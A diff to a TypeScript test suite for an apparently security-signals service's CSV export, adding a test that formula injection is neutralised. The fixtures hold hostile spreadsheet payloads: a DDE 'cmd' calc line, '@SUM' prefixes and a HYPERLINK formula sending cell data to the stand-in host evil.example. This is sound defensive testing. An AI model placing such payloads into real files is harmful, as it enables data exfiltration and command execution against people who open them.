@@ -7,6 +7,7 @@ import { createHttpServer } from '../../api/http-server';
 import { PLANS } from '../../domain/tenancy/plans';
 import { SIGNAL_COLUMNS } from '../../exports/records';
 import { parseCsvTable } from '../helpers/csv';
+import { formulaCells, spreadsheetReadings } from '../helpers/spreadsheet';
 import {
   addUserWithRole,
   createTestContext,
@@ -123,7 +124,8 @@ describe('GET /accounts/{account_id}/export', () => {
     const at = (g: number) => rows[g - 1] as Record<string, string>;
     expect(at(7)).toMatchObject({ status: 'resolved', resolved_at: '2026-06-01T00:00:00.000Z' });
     expect(at(5000).title).toBe("'=cmd|' /C calc'!A0");
-    expect(at(5001).description).toBe('line one\r\nline "two", with a comma');
+    // One record per line: a line break inside a cell is a space.
+    expect(at(5001).description).toBe('line one line "two", with a comma');
     expect([at(5002).resource, at(5003).resource, at(5004).resource]).toEqual(["'-1", "'@SUM(A1)", "'+1"]);
   }); // 100,000 rows on a shared machine
 
@@ -170,6 +172,46 @@ describe('GET /accounts/{account_id}/export', () => {
       'sig_acc_small_0000002',
       'sig_acc_small_0000003',
     ]);
+  });
+
+  it('shows no formula at the start of any cell or line, read with `,`, `;` or a tab as the separator', async () => {
+    // A resource name a forwarded event brought and an acceptance's reason, each with a line break before a formula:
+    // a spreadsheet splitting at `;` does not see the quotes around such a cell, and starts a row at the break.
+    const hostile = (what: string) => `${what}\r\n=HYPERLINK("http://evil.example/?${what}","open");x\n@SUM(1)`;
+    await addAccount(owner.tenantId, 'acc_hostile', '100000000003');
+    await ctx.db
+      .insertInto('signals')
+      .values({
+        id: 'sig_hostile',
+        tenant_id: owner.tenantId,
+        account_id: 'acc_hostile',
+        check_id: 'event.security_group_admin_port_opened',
+        fingerprint: 'event.security_group_admin_port_opened|hostile|eu-west-1',
+        scenario: 'exposure',
+        severity: 'HIGH',
+        title: 'Security group opened',
+        description: hostile('description'),
+        resource: hostile('resource'),
+        region: 'eu-west-1',
+        detected_at: new Date(),
+      })
+      .execute();
+    await ctx.http
+      .post('/accounts/100000000003/signals/sig_hostile/accept')
+      .set(owner.auth)
+      .send({ reason: hostile('reason') })
+      .expect(200);
+    const res = await ctx.http.get('/accounts/100000000003/export').set(owner.auth).expect(200);
+    const readings = spreadsheetReadings(res.text);
+    for (const [reading, cells] of Object.entries(readings)) {
+      expect({ reading, formulas: formulaCells(cells) }).toEqual({ reading, formulas: [] });
+    }
+    expect(readings.lines).toHaveLength(2);
+    const inert = (what: string) => `${what} '=HYPERLINK("http://evil.example/?${what}","open");x '@SUM(1)`;
+    const [row] = parseCsvTable(res.text);
+    expect(row).toMatchObject({ resource: inert('resource'), description: inert('description') });
+    // The acceptances are JSON in their cell: its escapes hold the line breaks, so the reason comes back whole.
+    expect(JSON.parse(row?.acceptances as string)).toEqual([expect.objectContaining({ reason: hostile('reason') })]);
   });
 
   it('answers the header row alone for an account without signals', async () => {
